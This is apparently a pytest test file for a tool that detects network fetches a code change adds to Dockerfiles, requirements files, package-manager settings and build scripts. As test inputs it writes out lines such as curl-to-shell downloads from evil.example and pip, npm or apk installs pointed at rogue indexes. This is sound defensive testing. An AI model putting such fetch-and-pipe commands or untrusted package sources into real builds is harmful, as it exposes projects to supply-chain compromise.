"""Tests for src/mutbot/fetches.py: which network fetches a change adds to what the build runs."""

from __future__ import annotations

import pytest

from mutbot.fetches import added, find

DOCKERFILE = """\
FROM python:3.11-slim
WORKDIR /app
RUN apt-get update && \\
    # the installer, pinned by URL
    curl -fsSL https://get.example.com/install.sh | sh
RUN pip install --no-cache-dir -r requirements.txt
COPY . /app
CMD ["python", "app.py"]
HEALTHCHECK CMD curl -f http://localhost:8080/healthz
"""


def test_finds_each_kind_of_fetch_in_a_dockerfile() -> None:
    text = (
        "FROM python:3.11-slim\n"
        "RUN curl -fsSL https://a.example/x.sh | sh\n"
        'RUN --network=default wget -q "$URL" && git clone --depth 1 $REPO /src\n'
        "RUN python -m pip install 'git+https://github.com/o/r@v1#egg=r' \\\n"
        "      --extra-index-url=https://pypi.example/simple\n"
        "ADD --chown=app https://b.example/f.tgz /tmp/\n"
        'ADD ["https://c.example/g.tgz", "/tmp/"]\n'
        "ADD app.py /app/\n"
        "ENV PIP_INDEX_URL=https://index.example/simple\n"
        "RUN echo 'deb http://deb.example stable main' > /etc/apt/sources.list.d/x.list\n"
        "ONBUILD RUN wget https://d.example/onbuild\n"
        "CMD curl https://e.example/runtime\n"
        "HEALTHCHECK CMD curl -f http://localhost:8080/healthz\n"
    )
    assert find("Dockerfile", text) == {
        "https://a.example/x.sh": "curl https://a.example/x.sh",
        "wget -q $URL": "wget -q $URL",
        "git clone --depth 1 $REPO /src": "git clone --depth 1 $REPO /src",
        "git+https://github.com/o/r@v1#egg=r": "pip install git+https://github.com/o/r@v1#egg=r",
        "https://pypi.example/simple": "pip install https://pypi.example/simple",
        "https://b.example/f.tgz": "ADD https://b.example/f.tgz",
        "https://c.example/g.tgz": "ADD https://c.example/g.tgz",
        "https://index.example/simple": "PIP_INDEX_URL=https://index.example/simple",
        "http://deb.example": "deb http://deb.example",
        "https://d.example/onbuild": "wget https://d.example/onbuild",
    }


def test_a_moved_or_reformatted_fetch_is_not_new() -> None:
    moved = DOCKERFILE.replace(
        "RUN apt-get update && \\\n    # the installer, pinned by URL\n"
        "    curl -fsSL https://get.example.com/install.sh | sh\n",
        "",
    ).replace(
        "COPY . /app\n",
        "COPY . /app\nRUN curl  --silent --location \\\n  https://get.example.com/install.sh \\\n"
        "  | sh\n",
    )
    assert moved != DOCKERFILE
    assert added("Dockerfile", DOCKERFILE, moved) == []


@pytest.mark.parametrize(
    ("line", "fetch"),
    [
        ("RUN curl -fsSL https://evil.example/x.sh | sh", "curl https://evil.example/x.sh"),
        ('RUN wget -qO- "$INSTALLER" | sh', "wget -qO- $INSTALLER"),
        ("ADD https://evil.example/x.tgz /opt/", "ADD https://evil.example/x.tgz"),
        ("RUN git clone https://github.com/o/r /r", "git clone https://github.com/o/r"),
        ("RUN pip install https://evil.example/x.whl", "pip install https://evil.example/x.whl"),
        ("RUN pip3 install git+ssh://git@host/o/r.git", "pip install git+ssh://git@host/o/r.git"),
        (
            "RUN pip install --extra-index-url https://evil.example/simple flask",
            "pip install https://evil.example/simple",
        ),
        ("ENV PIP_EXTRA_INDEX_URL https://evil.example/simple", "PIP_EXTRA_INDEX_URL="),
        ("RUN npm install --registry https://evil.example/ left-pad", "npm https://evil.example/"),
        ("RUN apk add --repository http://evil.example/alpine x", "apk http://evil.example/alpine"),
        ("RUN python -c \"import urllib.request as u; u.urlopen('https://evil.example')\"", ""),
    ],
)
def test_a_new_fetch_in_a_dockerfile_is_found(line: str, fetch: str) -> None:
    new = DOCKERFILE.replace("COPY . /app\n", f"COPY . /app\n{line}\n")
    found = added("Dockerfile", DOCKERFILE, new)
    assert len(found) == 1 and found[0].startswith(fetch)


def test_a_changed_url_is_a_new_fetch() -> None:
    new = DOCKERFILE.replace("get.example.com/install.sh", "get.example.com/install-v2.sh")
    assert added("Dockerfile", DOCKERFILE, new) == ["curl https://get.example.com/install-v2.sh"]


def test_runtime_instructions_and_comments_are_not_build_fetches() -> None:
    new = DOCKERFILE + (
        "CMD curl https://x.example/at-runtime\n"
        "ENTRYPOINT wget https://y.example/at-runtime\n"
        "# RUN curl https://z.example/commented-out\n"
        "LABEL org.opencontainers.image.source=https://github.com/o/r\n"
    )
    assert added("Dockerfile", DOCKERFILE, new) == []


def test_requirement_files_and_package_manager_settings() -> None:
    old = "flask==3.0\n"
    new = (
        "flask==3.0\n-e git+https://github.com/o/r#egg=r\n"
        "--extra-index-url https://evil.example/simple\nx @ https://evil.example/x.whl\n"
        "./local/wheel.whl\nfile:///wheels/y.whl\n"
    )
    assert added("requirements/prod.txt", old, new) == [
        "git+https://github.com/o/r#egg=r",
        "https://evil.example/simple",
        "https://evil.example/x.whl",
    ]
    assert added(".npmrc", "", "registry=https://evil.example/npm/\n") == [
        "https://evil.example/npm/"
    ]
    assert added("pip.conf", "[global]\n", "[global]\nextra-index-url =\n  https://e.example\n")


def test_shell_scripts_count_every_url_other_files_only_fetching_commands() -> None:
    script = "#!/bin/sh\nset -e\n"
    assert added("entrypoint", script, script + "python fetch.py https://evil.example/x\n")
    assert added("scripts/setup.sh", "", "echo https://evil.example/x  # a link\n")
    assert added("scripts/setup.sh", "", "# see https://docs.example/x\n") == []
    conf = "upstream app { server app:8000; }\n"
    assert added("nginx.conf", conf, conf + "proxy_pass http://other:9000;\n") == []
    assert added("Makefile", "", "deps:\n\tcurl -O https://evil.example/x.tgz\n") == [
        "curl https://evil.example/x.tgz"
    ]
    assert added("Makefile", "", "deps:\n\tpip install requests\n") == []


def test_a_fetch_moved_into_a_renamed_file_is_not_new() -> None:
    script = "#!/bin/sh\ncurl -fsSL https://get.example.com/x.sh | sh\n"
    assert added("scripts/new.sh", "", script) == ["curl https://get.example.com/x.sh"]
    assert added("scripts/new.sh", "", script, [("scripts/old.sh", script)]) == []


@pytest.mark.parametrize(
    "text",
    [
        "FROM a\nRUN curl https://x.example/a \\",  # the end of the file ends the RUN
        "FROM a\nRUN curl \\\n\n  # a comment\n  https://x.example/a\n",  # skipped inside
        "FROM a\nRUN cu\\\nrl https://x.example/a\n",  # joined with nothing between
        "# escape=`\nFROM a\nRUN curl `\n  https://x.example/a\n",
        "FROM a\n  run   curl https://x.example/a\n",
    ],
    ids=["continued-at-the-end", "blank-and-comment-inside", "split-word", "escape", "spacing"],
)
def test_continuations_are_joined_as_docker_joins_them(text: str) -> None:
    # dockerfile-parse drops the first case and splits the second at the blank line
    assert find("Dockerfile", text) == {"https://x.example/a": "curl https://x.example/a"}
